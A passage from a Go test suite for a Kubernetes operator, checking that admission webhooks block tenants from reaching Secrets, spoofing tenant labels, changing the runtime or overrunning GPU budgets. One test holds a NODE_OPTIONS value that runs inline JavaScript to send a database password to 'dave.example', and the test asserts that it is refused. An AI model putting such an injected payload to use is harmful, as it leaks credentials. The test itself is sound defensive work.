	wsB := sandboxspec.WorkspaceName(b, namespaceUID(ctx, g, b))
	g.Expect(tn.st.Gateway.SandboxNames(wsB)).To(BeEmpty())
	g.Eventually(func(g Gomega) {
		cond := providerReady(ctx, g, bProvider)
		g.Expect(cond.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(cond.Reason).To(Equal(openshellv1alpha1.ReasonGatewayNotAllowed), cond.Message)
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(tn.st.Gateway.StoredCredentials(wsB, "anthropic")).To(BeNil(), "no credentials pushed to a gateway that refuses the namespace")

	// Granting access again lets the same sandbox, and its provider, through.
	relabel(ctx, g, b, map[string]string{"team": "a"})
	waitPhase(ctx, g, client.ObjectKeyFromObject(bypass), openshellv1alpha1.SandboxPhaseReady)
	g.Eventually(func(g Gomega) {
		g.Expect(providerReady(ctx, g, bProvider).Reason).To(Equal(openshellv1alpha1.ProviderReasonSynced))
	}).
		WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(tn.st.Gateway.StoredCredentials(wsB, "anthropic")).To(Equal(map[string]string{"ANTHROPIC_API_KEY": "sk-team-b"}))

	// Revoking by the gateway's own spec.tenancy (the platform admin
	// narrows it to its own namespace): the running sandbox is reported,
	// keeps its phase, and the same holds once the selector is back.
	setTenancy := func(from openshellv1alpha1.NamespacesFrom, sel *metav1.LabelSelector) {
		editGateway(ctx, g, client.ObjectKeyFromObject(tn.st.GatewayObj), func(gw *openshellv1alpha1.OpenShellGateway) {
			gw.Spec.Tenancy.AllowedNamespaces = openshellv1alpha1.AllowedNamespaces{From: from, Selector: sel}
		})
	}
	accepted := func(status metav1.ConditionStatus, reason string) {
		g.Eventually(func(g Gomega) {
			cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(bypass))
			cond := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAccepted)
			g.Expect(cond).NotTo(BeNil())
			g.Expect(cond.Status).To(Equal(status))
			g.Expect(cond.Reason).To(Equal(reason), cond.Message)
			g.Expect(cur.Status.Phase).To(Equal(openshellv1alpha1.SandboxPhaseReady))
		}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	}
	gw := &openshellv1alpha1.OpenShellGateway{}
	g.Expect(c.Get(ctx, client.ObjectKeyFromObject(tn.st.GatewayObj), gw)).To(Succeed())
	selector := gw.Spec.Tenancy.AllowedNamespaces.Selector.DeepCopy()
	// The later subtests share the gateway: its selector comes back even
	// when an assertion below fails.
	defer func() {
		gw := &openshellv1alpha1.OpenShellGateway{}
		if c.Get(ctx, client.ObjectKeyFromObject(tn.st.GatewayObj), gw) == nil && gw.Spec.Tenancy.AllowedNamespaces.Selector == nil {
			gw.Spec.Tenancy.AllowedNamespaces = openshellv1alpha1.AllowedNamespaces{From: openshellv1alpha1.NamespacesFromSelector, Selector: selector}
			_ = c.Update(ctx, gw)
		}
	}()
	setTenancy(openshellv1alpha1.NamespacesFromSame, nil)
	accepted(metav1.ConditionFalse, openshellv1alpha1.ReasonGatewayNotAllowed)
	err = as(t, "mallory").Create(ctx, tn.sandbox(b, "after-narrowing"))
	expectForbidden(g, err, openshellv1alpha1.ReasonGatewayNotAllowed, "admits only its own namespace")
	setTenancy(openshellv1alpha1.NamespacesFromSelector, selector)
	accepted(metav1.ConditionTrue, openshellv1alpha1.SandboxReasonAccepted)
}

// tenantAdminVsEditor: OLM gives `edit` write access to every owned kind;
// only the namespace admin (or openshell-tenant-admin) may change the
// image allowlist, policies and providers. The editor still runs sandboxes
// that name what the admin approved.
func (tn *tenancySuite) tenantAdminVsEditor(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-a", map[string]string{"team": "a"})
	bind(ctx, t, ns, "alice", "admin")
	bind(ctx, t, ns, "bob", "edit")
	bind(ctx, t, ns, "erin", "openshell-tenant-admin")
	admin, editor, explicit := as(t, "alice"), as(t, "bob"), as(t, "erin")

	// RBAC alone would let the editor write: the webhook is what refuses.
	g.Expect(canI(ctx, g, "bob", ns, "create", "openshellimagepolicies")).To(BeTrue(), "OLM's aggregated edit role grants create")

	allow := &openshellv1alpha1.OpenShellImagePolicy{ObjectMeta: metav1.ObjectMeta{Name: "mirror", Namespace: ns},
		Spec: openshellv1alpha1.OpenShellImagePolicySpec{AllowedMirrors: []string{"registry.example.com/mirror"}}}
	expectForbidden(g, editor.Create(ctx, allow.DeepCopy()), "TenantAdminRequired", "may not create openshellimagepolicies")
	g.Expect(admin.Create(ctx, allow)).To(Succeed())

	// The editor cannot widen it, nor delete it (which could open the namespace to any image).
	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellImagePolicy{}
		if err := editor.Get(ctx, client.ObjectKeyFromObject(allow), cur); err != nil {
			return err
		}
		cur.Spec.AllowedMirrors = append(cur.Spec.AllowedMirrors, "docker.io")
		return editor.Update(ctx, cur)
	})
	expectForbidden(g, err, "TenantAdminRequired", "may not change openshellimagepolicies")
	expectForbidden(g, editor.Delete(ctx, allow), "TenantAdminRequired", "may not delete openshellimagepolicies")

	pol := &openshellv1alpha1.OpenShellPolicy{ObjectMeta: metav1.ObjectMeta{Name: "restricted", Namespace: ns}}
	expectForbidden(g, editor.Create(ctx, pol.DeepCopy()), "TenantAdminRequired", "may not create openshellpolicies")
	g.Expect(explicit.Create(ctx, pol)).To(Succeed(), "openshell-tenant-admin holds manage")

	g.Expect(admin.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Namespace: ns},
		StringData: map[string]string{"ANTHROPIC_API_KEY": "sk-admin"}})).To(Succeed())
	prov := &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: "anthropic", Namespace: ns},
		Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "anthropic", CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: "creds"}}}
	expectForbidden(g, editor.Create(ctx, prov.DeepCopy()), "TenantAdminRequired", "may not create openshellproviders")
	g.Expect(admin.Create(ctx, prov)).To(Succeed())
	// Asking the gateway to mint credentials now is the Tenant Admin's too.
	rotate := func(c client.Client) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur := &openshellv1alpha1.OpenShellProvider{}
			if err := c.Get(ctx, client.ObjectKeyFromObject(prov), cur); err != nil {
				return err
			}
			cur.Annotations = map[string]string{openshellv1alpha1.AnnotationRotateCredentials: "now"}
			return c.Update(ctx, cur)
		})
	}
	expectForbidden(g, rotate(editor), "TenantAdminRequired", "may not change openshellproviders")
	g.Expect(rotate(admin)).To(Succeed())

	// The consumer's path: a sandbox naming the approved policy and provider.
	sb := tn.sandbox(ns, "agent")
	sb.Spec.Image = "registry.example.com/mirror/agent@sha256:" + strings.Repeat("a", 64)
	sb.Spec.PolicyRef = &openshellv1alpha1.LocalObjectReference{Name: "restricted"}
	sb.Spec.Providers = []string{"anthropic"}
	g.Expect(editor.Create(ctx, sb)).To(Succeed())
	waitPhase(ctx, g, client.ObjectKeyFromObject(sb), openshellv1alpha1.SandboxPhaseReady)
}

// providerProfileWriters: a provider profile decides where a provider's
// credentials go and what its sandboxes may reach, so only Tenant Admins
// write it (an editor is refused, TenantAdminRequired), and only those who
// may read the credentials Secret of a provider of its type
// (SecretAccessDenied). A profile that a gateway imports into its platform
// catalog, which serves every tenant of the gateway, or any profile in a
// namespace where gateways are served, takes the right to update the
// namespace's gateways too, to write or delete (GatewayAdminRequired): an
// explicit openshell-tenant-admin may write other profiles in an unserved
// namespace but not those, while the namespace admin (OLM's aggregated
// admin covers gateways) may.
func (tn *tenancySuite) providerProfileWriters(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	c := cluster.Client
	ns := tenancyNamespace(ctx, t, "team-a", map[string]string{"team": "a"})
	bind(ctx, t, ns, "bob", "edit")
	bind(ctx, t, ns, "erin", "openshell-tenant-admin")
	profile := func(ns, name string) *openshellv1alpha1.OpenShellProviderProfile {
		return &openshellv1alpha1.OpenShellProviderProfile{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
			Spec: openshellv1alpha1.OpenShellProviderProfileSpec{Endpoints: []openshellv1alpha1.NetworkEndpoint{{Host: "exfil.example.com", Port: ptr.To[int32](443)}}}}
	}
	g.Expect(canI(ctx, g, "bob", ns, "create", "openshellproviderprofiles")).To(BeTrue(), "OLM's aggregated edit role grants create")
	expectForbidden(g, as(t, "bob").Create(ctx, profile(ns, "github")), "TenantAdminRequired", "may not create openshellproviderprofiles")
	mine := profile(ns, "github")
	g.Expect(as(t, "erin").Create(ctx, mine)).To(Succeed())
	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellProviderProfile{}
		if err := as(t, "bob").Get(ctx, client.ObjectKeyFromObject(mine), cur); err != nil {
			return err
		}
		cur.Spec.Endpoints = append(cur.Spec.Endpoints, openshellv1alpha1.NetworkEndpoint{Host: "*.example.org", Port: ptr.To[int32](443)})
		return as(t, "bob").Update(ctx, cur)
	})
	expectForbidden(g, err, "TenantAdminRequired", "may not change openshellproviderprofiles")

	// A gateway's namespace whose gateway imports "github" platform-wide.
	gwNS := tenancyNamespace(ctx, t, "gw-profiles", nil)
	bind(ctx, t, gwNS, "erin", "openshell-tenant-admin")
	bind(ctx, t, gwNS, "alice", "admin")
	g.Expect(c.Create(ctx, &openshellv1alpha1.OpenShellGateway{ObjectMeta: metav1.ObjectMeta{Name: "shared", Namespace: gwNS},
		Spec: openshellv1alpha1.OpenShellGatewaySpec{Mode: openshellv1alpha1.GatewayModeExternal, ProviderProfiles: []string{"github"}, External: &openshellv1alpha1.ExternalGatewaySpec{
			Endpoint: "https://gateway.example.com:443", CASecretRef: openshellv1alpha1.SecretKeyReference{Name: "ca", Key: "ca.crt"}}}})).To(Succeed())
	g.Expect(canI(ctx, g, "erin", gwNS, "update", "openshellgateways")).To(BeFalse())
	expectForbidden(g, as(t, "erin").Create(ctx, profile(gwNS, "github")), "GatewayAdminRequired", "gateway shared imports it into its platform catalog")
	g.Expect(as(t, "erin").Create(ctx, profile(gwNS, "gitlab"))).To(Succeed(), "a profile no gateway imports platform-wide is the Tenant Admin's")
	platform := profile(gwNS, "github")
	g.Expect(as(t, "alice").Create(ctx, platform)).To(Succeed(), "the namespace admin may update the gateway")
	err = retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellProviderProfile{}
		if err := as(t, "erin").Get(ctx, client.ObjectKeyFromObject(platform), cur); err != nil {
			return err
		}
		cur.Spec.Endpoints = append(cur.Spec.Endpoints, openshellv1alpha1.NetworkEndpoint{Host: "*.example.org", Port: ptr.To[int32](443)})
		return as(t, "erin").Update(ctx, cur)
	})
	expectForbidden(g, err, "GatewayAdminRequired", "only who may update the namespace's OpenShellGateways may change it")
	expectForbidden(g, as(t, "erin").Delete(ctx, platform), "GatewayAdminRequired", "imports it into its platform catalog")

	// In a namespace where gateways are served, any profile may become a
	// platform profile with one edit of a gateway: the same rule.
	bind(ctx, t, tn.placementNS, "erin", "openshell-tenant-admin")
	expectForbidden(g, as(t, "erin").Create(ctx, profile(tn.placementNS, "claimed-early")), "GatewayAdminRequired", "is a gateway namespace")

	// A profile decides where a provider's credentials go: writing one for
	// a type whose provider sends a Secret takes the right to read it,
	// which openshell-tenant-admin does not hold.
	bind(ctx, t, ns, "alice", "admin")
	g.Expect(as(t, "alice").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "lab-token", Namespace: ns},
		StringData: map[string]string{"TOKEN": "glpat-secret"}})).To(Succeed())
	g.Expect(as(t, "alice").Create(ctx, &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: "lab", Namespace: ns},
		Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "gitlab", CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: "lab-token"}}})).To(Succeed())
	g.Expect(canI(ctx, g, "erin", ns, "get", "secrets")).To(BeFalse())
	expectForbidden(g, as(t, "erin").Create(ctx, profile(ns, "gitlab")), "SecretAccessDenied", "may not get Secret lab-token")
	g.Expect(as(t, "alice").Create(ctx, profile(ns, "gitlab"))).To(Succeed(), "the namespace admin may read the Secret")

	// So does a type whose provider only refreshes (no credentials
	// Secret): what the gateway mints from its material goes where the
	// profile says (the namespace's profile wins over one a platform
	// imported by hand).
	g.Expect(as(t, "alice").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "graph-refresh", Namespace: ns},
		StringData: map[string]string{"client_id": "agent", "refresh_token": "rt-secret"}})).To(Succeed())
	g.Expect(as(t, "alice").Create(ctx, &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: "graph", Namespace: ns},
		Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "microsoft-graph", Refresh: []openshellv1alpha1.CredentialRefresh{{
			CredentialKey: "ACCESS_TOKEN", Strategy: openshellv1alpha1.RefreshOAuth2RefreshToken,
			MaterialSecretRef: openshellv1alpha1.LocalObjectReference{Name: "graph-refresh"}}}}})).To(Succeed())
	expectForbidden(g, as(t, "erin").Create(ctx, profile(ns, "microsoft-graph")), "SecretAccessDenied", "may not get Secret graph-refresh")
}

// secretReference: a user who may create sandboxes but not read Secrets
// cannot get a Secret's value into an agent through env.
func (tn *tenancySuite) secretReference(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-a", map[string]string{"team": "a"})
	bind(ctx, t, ns, "bob", "edit")
	bind(ctx, t, ns, "dave", "openshell-sandbox-user") // sandboxes, no Secrets
	g.Expect(cluster.Client.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db", Namespace: ns},
		StringData: map[string]string{"password": "hunter2"}})).To(Succeed())
	withSecret := func(name string) *openshellv1alpha1.OpenShellSandbox {
		sb := tn.sandbox(ns, name)
		sb.Spec.Env = []openshellv1alpha1.SandboxEnvVar{{Name: "DB_PASSWORD", ValueFrom: &openshellv1alpha1.SandboxEnvVarSource{
			SecretKeyRef: openshellv1alpha1.SecretKeyReference{Name: "db", Key: "password"}}}}
		return sb
	}
	g.Expect(canI(ctx, g, "dave", ns, "create", "openshellsandboxes")).To(BeTrue())
	expectForbidden(g, as(t, "dave").Create(ctx, withSecret("steal")), "SecretAccessDenied", `may not get Secret db`)

	// Adding the reference later is checked too.
	plain := tn.sandbox(ns, "plain")
	g.Expect(as(t, "dave").Create(ctx, plain)).To(Succeed())
	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellSandbox{}
		if err := as(t, "dave").Get(ctx, client.ObjectKeyFromObject(plain), cur); err != nil {
			return err
		}
		cur.Spec.Env = withSecret("x").Spec.Env
		return as(t, "dave").Update(ctx, cur)
	})
	expectForbidden(g, err, "SecretAccessDenied", "may not get Secret db")

	// An editor may read the Secret anyway, so may reference it.
	ok := withSecret("allowed")
	g.Expect(as(t, "bob").Create(ctx, ok)).To(Succeed())
	waitPhase(ctx, g, client.ObjectKeyFromObject(ok), openshellv1alpha1.SandboxPhaseReady)

	// Dave may edit that sandbox, but not retarget it at an image of his
	// choosing: the new program would receive the Secret's value.
	edit := func(mutate func(*openshellv1alpha1.OpenShellSandbox)) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur := &openshellv1alpha1.OpenShellSandbox{}
			if err := as(t, "dave").Get(ctx, client.ObjectKeyFromObject(ok), cur); err != nil {
				return err
			}
			mutate(cur)
			return as(t, "dave").Update(ctx, cur)
		})
	}
	expectForbidden(g, edit(func(sb *openshellv1alpha1.OpenShellSandbox) { sb.Spec.Image = "registry.example.com/dave/exfiltrate:1" }),
		"SecretAccessDenied", "may not get Secret db")
	// N3: neither may he add code beside the value any other way: an env
	// var the runtime executes, an annotation, a policy of his choosing.
	nodeOptions := "--import=data:text/javascript,fetch('https://dave.example/'+process.env.DB_PASSWORD)"
	for what, mutate := range map[string]func(*openshellv1alpha1.OpenShellSandbox){
		"env": func(sb *openshellv1alpha1.OpenShellSandbox) {
			sb.Spec.Env = append(sb.Spec.Env, openshellv1alpha1.SandboxEnvVar{Name: "NODE_OPTIONS", Value: &nodeOptions})
		},
		"podAnnotations": func(sb *openshellv1alpha1.OpenShellSandbox) {
			sb.Spec.PodAnnotations = map[string]openshellv1alpha1.PodAnnotationValue{"example.com/x": "y"}
		},
		"policyRef": func(sb *openshellv1alpha1.OpenShellSandbox) {
			sb.Spec.PolicyRef = &openshellv1alpha1.LocalObjectReference{Name: "permissive"}
		},
	} {
		t.Run("edits "+what, func(t *testing.T) {
			expectForbidden(NewWithT(t), edit(mutate), "SecretAccessDenied", "may not get Secret db")
		})
	}
	g.Expect(edit(func(sb *openshellv1alpha1.OpenShellSandbox) { sb.Labels = map[string]string{"owner": "dave"} })).To(Succeed(),
		"changes that hand no value to a new program are not blocked")
}

// providerSecretReference (N4): a Tenant Admin bound explicitly
// (openshell-tenant-admin holds manage, not Secret reads) cannot make an
// OpenShellProvider carry a Secret they may not read — its keys would become
// env of the agents that attach it — nor re-point one that a Secret reader
// created.
func (tn *tenancySuite) providerSecretReference(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-n4", map[string]string{"team": "a"})
	bind(ctx, t, ns, "alice", "admin")
	bind(ctx, t, ns, "erin", "openshell-tenant-admin")
	g.Expect(cluster.Client.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db", Namespace: ns},
		StringData: map[string]string{"password": "hunter2"}})).To(Succeed())
	g.Expect(canI(ctx, g, "erin", ns, "get", "secrets")).To(BeFalse(), "the persona of this attack")
	prov := func(name string) *openshellv1alpha1.OpenShellProvider {
		return &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
			Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "generic",
				CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: "db", Keys: []string{"password"}}}}
	}
	expectForbidden(g, as(t, "erin").Create(ctx, prov("stolen")), "SecretAccessDenied", "may not get Secret db")
	g.Expect(as(t, "alice").Create(ctx, prov("legit"))).To(Succeed(), "a namespace admin may read the Secret")
	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellProvider{}
		if err := as(t, "erin").Get(ctx, client.ObjectKey{Namespace: ns, Name: "legit"}, cur); err != nil {
			return err
		}
		cur.Spec.Config = map[string]string{"BASE_URL": "https://erin.example"}
		return as(t, "erin").Update(ctx, cur)
	})
	expectForbidden(g, err, "SecretAccessDenied", "may not get Secret db")

	// Refresh material becomes the gateway's, and what it mints reaches the
	// agents: the same rule, for a provider or an edit naming it.
	refreshing := prov("refreshing")
	refreshing.Spec.CredentialsSecretRef = nil
	refreshing.Spec.Refresh = []openshellv1alpha1.CredentialRefresh{{CredentialKey: "ACCESS_TOKEN",
		Strategy: openshellv1alpha1.RefreshOAuth2ClientCredentials, MaterialSecretRef: openshellv1alpha1.LocalObjectReference{Name: "db"}}}
	expectForbidden(g, as(t, "erin").Create(ctx, refreshing.DeepCopy()), "SecretAccessDenied", "cannot hand its refresh material to the gateway")
	g.Expect(as(t, "alice").Create(ctx, refreshing)).To(Succeed(), "a namespace admin may read the Secret")
}

// podLabelsCannotClaimATenant (N5): every tenant's pods share the sandbox
// namespace, so a NetworkPolicy of team A that admits "pods labelled team=a"
// would admit team B's agent wearing that label. The operator's own tenant
// labels say whose a pod is, and no tenant can set them.
func (tn *tenancySuite) podLabelsCannotClaimATenant(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	victim := tenancyNamespace(ctx, t, "team-n5a", map[string]string{"team": "a"})
	ns := tenancyNamespace(ctx, t, "team-n5b", map[string]string{"team": "a"})
	bind(ctx, t, ns, "erin", "edit")
	claim := tn.sandbox(ns, "claim")
	claim.Spec.PodLabels = map[string]openshellv1alpha1.PodLabelValue{sandboxspec.LabelTenantNamespace: openshellv1alpha1.PodLabelValue(victim)}
	err := as(t, "erin").Create(ctx, claim)
	g.Expect(apierrors.IsInvalid(err)).To(BeTrue(), "want Invalid, got %v", err)
	g.Expect(err.Error()).To(ContainSubstring("reserved"))

	spoof := tn.sandbox(ns, "spoof")
	spoof.Spec.PodLabels = map[string]openshellv1alpha1.PodLabelValue{"team": "a"}
	g.Expect(as(t, "erin").Create(ctx, spoof)).To(Succeed())
	waitPhase(ctx, g, client.ObjectKeyFromObject(spoof), openshellv1alpha1.SandboxPhaseReady)
	id := sandboxStatus(ctx, g, client.ObjectKeyFromObject(spoof)).Status.SandboxID
	list := &unstructured.UnstructuredList{}
	list.SetGroupVersionKind(sandboxGVK)
	g.Expect(cluster.Client.List(ctx, list, client.InNamespace(tn.sbNS), client.MatchingLabels{sandbox.LabelSandboxID: id})).To(Succeed())
	g.Expect(list.Items).To(HaveLen(1))
	labels, _, _ := unstructured.NestedStringMap(list.Items[0].Object, "spec", "podTemplate", "metadata", "labels")
	g.Expect(labels).To(HaveKeyWithValue(sandboxspec.LabelTenantNamespace, ns), "the pod says whose it is")
	g.Expect(labels).To(HaveKeyWithValue(sandboxspec.LabelTenantNamespaceUID, string(namespaceUID(ctx, g, ns))))
	g.Expect(labels).To(HaveKeyWithValue("team", "a"), "the tenant's own label is kept, but it is no identity")
}

// podAnnotationsCannotChangeTheRuntime (N6): an editor cannot move the
// agent's pod onto another network, pin a broader SCC, speak to the
// container runtime through annotations, or pick a runtime handler the
// Platform Admin did not list.
func (tn *tenancySuite) podAnnotationsCannotChangeTheRuntime(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-n6", map[string]string{"team": "a"})
	bind(ctx, t, ns, "erin", "edit")
	for _, key := range []string{"v1.multus-cni.io/default-network", "openshift.io/required-scc", "io.kubernetes.cri-o.Devices",
		"io.katacontainers.config.hypervisor.kernel_params", "cpu-load-balancing.crio.io", "k8s.ovn.org/pod-networks",
		"io.openshift.builder", "target.workload.openshift.io/management"} {
		t.Run(key, func(t *testing.T) {
			g := NewWithT(t)
			sb := tn.sandbox(ns, "ann")
			sb.Spec.PodAnnotations = map[string]openshellv1alpha1.PodAnnotationValue{key: "x"}
			err := as(t, "erin").Create(ctx, sb)
			g.Expect(apierrors.IsInvalid(err)).To(BeTrue(), "want Invalid, got %v", err)
			g.Expect(err.Error()).To(ContainSubstring("podAnnotations may not"))
		})
	}
	g := NewWithT(t)
	sb := tn.sandbox(ns, "handler")
	sb.Spec.RuntimeClassName = "runc-with-allowed-annotations"
	expectForbidden(g, as(t, "erin").Create(ctx, sb), "RuntimeClassNotAllowed", "it runs only its default RuntimeClass")
}

// secretFanOutIsBounded (N9): an editor, who may read the namespace's
// Secrets, cannot make the operator hold every Secret of the namespace for
// one sandbox: more than sandboxspec.MaxEnvSecrets distinct Secrets are
// refused at admission, and values past the gateway's limit leave the
// sandbox Pending with a reason instead of being read into a request.
func (tn *tenancySuite) secretFanOutIsBounded(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-n9", map[string]string{"team": "a"})
	bind(ctx, t, ns, "erin", "edit")
	// 20 KiB each: the 16 allowed Secrets total 320 KiB, past the gateway's
	// 256 KiB of env.
	value := strings.Repeat("x", 20<<10)
	refs := func(n int) []openshellv1alpha1.SandboxEnvVar {
		var env []openshellv1alpha1.SandboxEnvVar
		for i := range n {
			env = append(env, openshellv1alpha1.SandboxEnvVar{Name: fmt.Sprintf("V%d", i), ValueFrom: &openshellv1alpha1.SandboxEnvVarSource{
				SecretKeyRef: openshellv1alpha1.SecretKeyReference{Name: fmt.Sprintf("s%d", i), Key: "v"}}})
		}
		return env
	}
	for i := range sandboxspec.MaxEnvSecrets + 1 {
		g.Expect(as(t, "erin").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("s%d", i), Namespace: ns},
			StringData: map[string]string{"v": value}})).To(Succeed())
	}
	wide := tn.sandbox(ns, "wide")
	wide.Spec.Env = refs(sandboxspec.MaxEnvSecrets + 1)
	expectForbidden(g, as(t, "erin").Create(ctx, wide), "TooManySecrets", fmt.Sprintf("env reads more than %d Secrets", sandboxspec.MaxEnvSecrets))

	heavy := tn.sandbox(ns, "heavy")
	heavy.Spec.Env = refs(sandboxspec.MaxEnvSecrets)
	g.Expect(as(t, "erin").Create(ctx, heavy)).To(Succeed())
	g.Eventually(func(g Gomega) {
		cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(heavy))
		g.Expect(cur.Status.Phase).To(Equal(openshellv1alpha1.SandboxPhasePending))
		acc := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAccepted)
		g.Expect(acc).NotTo(BeNil())
		g.Expect(acc.Reason).To(Equal(openshellv1alpha1.SandboxReasonEnvTooLarge))
		g.Expect(acc.Message).To(ContainSubstring("more than the gateway's 256 KiB"))
		g.Expect(acc.Message).NotTo(ContainSubstring(value[:64]), "no Secret value in status")
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
}

// negativeQuantity (N8): an editor cannot lower the namespace's budget with
// a negative request, nor run unbounded with a zero limit.
func (tn *tenancySuite) negativeQuantity(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-n8", map[string]string{"team": "a"})
	bind(ctx, t, ns, "erin", "edit")
	sb := tn.sandbox(ns, "sponge")
	sb.Spec.Resources = &corev1.ResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("-100")}}
	expectForbidden(g, as(t, "erin").Create(ctx, sb), "InvalidResources", "cannot be negative")
	// Nor escape a CPU ceiling with a limit of 0, which is no limit.
	sb.Spec.Resources = &corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("0")}}
	expectForbidden(g, as(t, "erin").Create(ctx, sb), "InvalidResources", "treats as no limit at all")
	// Nor wrap the GPU sums: two device counts whose sum overflows would
	// count negative and lower the namespace's GPU charge.
	sb.Spec.Resources = &corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("1"),
		"nvidia.com/gpu": resource.MustParse("4611686018427387904"), "rdma/hca": resource.MustParse("4611686018427387904")}}
	expectForbidden(g, as(t, "erin").Create(ctx, sb), "InvalidResources", "asks for at most 65536 of a device")
}

// deviceSlicesCountAsGPUs (N7): an editor cannot get past a gateway's GPU
// ceiling or its namespace's GPU budget by asking for MIG slices, KVM or
// RDMA devices instead of nvidia.com/gpu — at admission, and in the
// reconciler when no webhook runs, even while a charged sandbox's create
// is still in flight at the gateway. A sandbox the budget refused runs
// once a peer's deletion makes room.
func (tn *tenancySuite) deviceSlicesCountAsGPUs(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	ns := tenancyNamespace(ctx, t, "team-n7", map[string]string{"team": "a"})
	bind(ctx, t, ns, "erin", "edit")
	gwc, gw, err := tn.st.AddGatewayWith(ctx, cluster.Client, "devices", tenancyNamespace(ctx, t, "devices-sandboxes", nil),
		func(_ *testgateway.Options, gw *openshellv1alpha1.OpenShellGateway) {
			gw.Spec.SandboxControls.MaxGPUs = ptr.To[int32](3)
			gw.Spec.SandboxControls.NamespaceBudget = &openshellv1alpha1.NamespaceBudget{MaxGPUs: ptr.To[int32](3)}
		})
	g.Expect(err).NotTo(HaveOccurred())
	withDevices := func(ns, name string, devices corev1.ResourceList) *openshellv1alpha1.OpenShellSandbox {
		sb := sandboxOn(ns, name, gw)
		limits := corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("1"), corev1.ResourceMemory: resource.MustParse("1Gi")}
		for k, v := range devices {
			limits[k] = v
		}
		sb.Spec.Resources = &corev1.ResourceRequirements{Limits: limits}
		return sb
	}
	slices := corev1.ResourceList{"nvidia.com/mig-1g.10gb": resource.MustParse("2")}
	sharedAndRDMA := corev1.ResourceList{"nvidia.com/gpu.shared": resource.MustParse("1"), "rdma/hca": resource.MustParse("1")}
	erin := as(t, "erin")

	// The ceiling: four MIG slices, or a KVM device beside three, are four
	// devices on a gateway that allows three per sandbox.
	expectForbidden(g, erin.Create(ctx, withDevices(ns, "mig", corev1.ResourceList{"nvidia.com/mig-1g.10gb": resource.MustParse("4")})),
		openshellv1alpha1.SandboxReasonResourceLimitExceeded, "4 GPUs and devices")
	expectForbidden(g, erin.Create(ctx, withDevices(ns, "vm", corev1.ResourceList{"nvidia.com/mig-1g.10gb": resource.MustParse("3"),
		"devices.kubevirt.io/kvm": resource.MustParse("1")})), openshellv1alpha1.SandboxReasonResourceLimitExceeded, "4 GPUs and devices")

	// The budget: two slices are charged; a shared GPU and an RDMA device
	// beside them make four, over the namespace's three.
	g.Expect(erin.Create(ctx, withDevices(ns, "slices", slices))).To(Succeed())
	g.Eventually(func(g Gomega) {
		// The webhook reads its peers from the operator's cache: refused
		// once the cache holds the first sandbox (a dry run charges nothing).
